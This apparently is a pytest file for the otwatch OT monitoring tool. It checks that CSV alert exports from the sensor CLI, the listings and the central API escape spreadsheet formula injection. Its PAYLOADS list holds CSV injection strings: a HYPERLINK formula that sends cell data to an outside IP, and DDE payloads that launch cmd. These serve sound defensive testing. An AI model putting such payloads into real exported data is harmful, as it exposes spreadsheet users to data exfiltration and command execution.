"""CSV formula injection: alert messages carry attacker-controlled text (DNS names, user
agents, PLC tags). Every CSV writer (sensor ``alerts export``, ``--format csv`` listings,
central's ``/alerts/export.csv`` and the central CLI) must hand a spreadsheet text, never a
formula, while numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from otwatch.agent.alerts.manager import AlertManager
from otwatch.agent.engines.detection import DetectionFactory
from otwatch.agent.store.db import open_store
from otwatch.alerts.catalog import load_catalog
from otwatch.central.api import LocalCommander, create_app
from otwatch.central.node import CentralNode
from otwatch.central.store.db import open_central_store
from otwatch.cli.main import cli
from otwatch.csvsafe import FORMULA_STARTS, neutralise
from tests.centralapi import add_alerts, snapshot, token
from tests.factories import T0

PAYLOADS = [
    '=HYPERLINK("http://203.0.113.9/x?"&A1,"update")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _is_inert(cell: str) -> bool:
    return len(cell) <= 1 or not cell.startswith(FORMULA_STARTS)


@pytest.fixture(scope="module")
def sensor_dir(tmp_path_factory):
    data = tmp_path_factory.mktemp("sensor")
    store = open_store(data)
    manager = AlertManager(store, load_catalog(), sensor_id="s1")
    factory = DetectionFactory(load_catalog())
    for i, text in enumerate(PAYLOADS):
        src = f"192.0.2.{10 + i}"
        manager.observe(
            factory.make(
                "unpermitted_usage_of_modbus_function_code", T0 + i, text,
                source_address=src, destination_address="198.51.100.20", protocol="modbus",
            )
        )  # fmt: skip
    manager.flush()
    store.close()
    return data


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_neutralised(parsed: list[dict[str, str]], column: str = "message") -> None:
    messages = sorted(row[column] for row in parsed)
    assert messages == sorted("'" + p for p in PAYLOADS), messages
    for row in parsed:
        assert all(_is_inert(cell) for cell in row.values()), row


def test_sensor_export(sensor_dir, tmp_path):
    out = tmp_path / "alerts.csv"
    result = CliRunner().invoke(
        cli, ["--data-dir", str(sensor_dir), "alerts", "export", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8", newline="") as f:  # keep the \r inside a cell
        parsed = rows(f.read())
    assert_neutralised(parsed)
    assert {row["detections"] for row in parsed} == {"1"}  # numbers stay numbers


def test_sensor_listing_as_csv(sensor_dir):
    result = CliRunner().invoke(
        cli, ["--data-dir", str(sensor_dir), "alerts", "list", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    parsed = rows(result.stdout)
    assert len(parsed) == len(PAYLOADS)
    for row in parsed:
        assert all(_is_inert(cell) for cell in row.values()), row


def test_central_export(tmp_path):
    store = open_central_store(f"sqlite:///{tmp_path / 'central.db'}")
    add_alerts(store, "s1", [snapshot(i + 1, message=p) for i, p in enumerate(PAYLOADS)])
    add_alerts(store, "s2", [snapshot(99, message="-5", detections=3)])
    client = TestClient(create_app(store, LocalCommander(CentralNode(store))))
    reader = {"Authorization": f"Bearer {token(store, 'r', 'reader')}"}
    response = client.get("/api/v1/alerts/export.csv?sensor=s1", headers=reader)
    assert response.status_code == 200
    assert_neutralised(rows(response.text))
    other = rows(client.get("/api/v1/alerts/export.csv?sensor=s2", headers=reader).text)
    assert other[0]["message"] == "'-5" and other[0]["detections"] == "3"
    store.close()


def test_neutralise_rules():
    assert neutralise("plain") == "plain" and neutralise("-") == "-"
    assert neutralise("-1") == "'-1" and neutralise("=A1") == "'=A1"
    assert neutralise("a=b") == "a=b"
